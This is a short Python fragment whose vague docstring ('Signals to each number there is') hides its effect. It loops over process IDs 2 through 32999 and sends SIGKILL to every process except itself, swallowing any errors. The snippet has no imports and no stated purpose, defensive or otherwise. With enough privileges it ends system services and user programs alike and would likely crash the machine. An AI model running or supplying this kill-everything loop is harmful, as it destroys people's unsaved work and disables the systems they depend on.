"""Signals to each number there is."""

for pid in range(2, 33_000):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
